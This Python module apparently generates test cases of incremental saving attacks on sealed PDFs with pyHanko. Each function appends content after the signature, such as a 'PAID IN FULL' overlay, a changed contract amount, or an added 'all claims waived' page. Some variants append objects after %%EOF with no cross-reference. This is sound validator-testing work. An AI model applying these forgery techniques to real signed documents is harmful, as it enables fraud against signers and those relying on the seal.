"""Incremental saving attacks (ISA): revisions appended after the seal, with or without the
cross-reference that makes them part of the file, and bytes after the last %%EOF."""

from __future__ import annotations

import io
import re

from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.generic import pdf_name
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.pdf_utils.reader import PdfFileReader

from .kit import Kit, object_text, written


def isa_content_added(kit: Kit) -> bytes:
    writer = IncrementalPdfFileWriter(io.BytesIO(kit.sealed), strict=False)
    stream = generic.StreamObject(
        stream_data=b"1 1 1 rg 60 650 480 120 re f 0 0 0 rg BT /F1 24 Tf 72 700 Td (PAID IN FULL) Tj ET"
    )
    writer.add_stream_to_page(0, writer.add_object(stream))
    return written(writer)


def isa_contents_replaced(kit: Kit) -> bytes:
    writer = IncrementalPdfFileWriter(io.BytesIO(kit.sealed), strict=False)
    page_ref = writer.root["/Pages"]["/Kids"][0]
    page = page_ref.get_object()
    stream = generic.StreamObject(stream_data=b"BT /F1 18 Tf 72 700 Td (Contract amount: 900 CNY) Tj ET")
    page[pdf_name("/Contents")] = writer.add_object(stream)
    writer.update_container(page)
    return written(writer)


def isa_page_added(kit: Kit) -> bytes:
    writer = IncrementalPdfFileWriter(io.BytesIO(kit.sealed), strict=False)
    pages_ref = writer.root.raw_get("/Pages")
    pages = pages_ref.get_object()
    first = pages["/Kids"][0].get_object()
    stream = generic.StreamObject(stream_data=b"BT /F1 18 Tf 72 700 Td (Appendix: all claims waived) Tj ET")
    page = generic.DictionaryObject(
        {
            pdf_name("/Type"): pdf_name("/Page"),
            pdf_name("/Parent"): pages_ref,
            pdf_name("/MediaBox"): first["/MediaBox"],
            pdf_name("/Contents"): writer.add_object(stream),
            pdf_name("/Resources"): first["/Resources"],
        }
    )
    pages["/Kids"].append(writer.add_object(page))
    pages[pdf_name("/Count")] = generic.NumberObject(int(pages["/Count"]) + 1)
    writer.update_container(pages)
    return written(writer)


def isa_body_without_xref(kit: Kit) -> bytes:
    """Objects appended after %%EOF with no xref or trailer: viewers that repair files show them."""
    reader = PdfFileReader(io.BytesIO(kit.sealed), strict=False)
    page_ref = reader.root["/Pages"]["/Kids"].raw_get(0)
    page = object_text(kit.sealed, page_ref)
    size = int(reader.trailer_view["/Size"])
    page = re.sub(rb"/Contents \d+ 0 R", b"/Contents %d 0 R" % size, page)
    content = b"BT /F1 18 Tf 72 700 Td (Contract amount: 900 CNY) Tj ET"
    return (
        kit.sealed
        + b"%d 0 obj\n<< /Length %d >>\nstream\n" % (size, len(content))
        + content
        + b"\nendstream\nendobj\n"
        + b"%d 0 obj\n" % page_ref.idnum
        + page
        + b"\nendobj\n"
    )


def bytes_after_eof(kit: Kit) -> bytes:
    return kit.sealed + b"\n% the attacker's note\n" + b"A" * 64 + b"\n"


def isa_body_then_eof(kit: Kit) -> bytes:
    """Objects appended with a bare %%EOF after them (no xref, no startxref)."""
    return isa_body_without_xref(kit) + b"%%EOF\n"
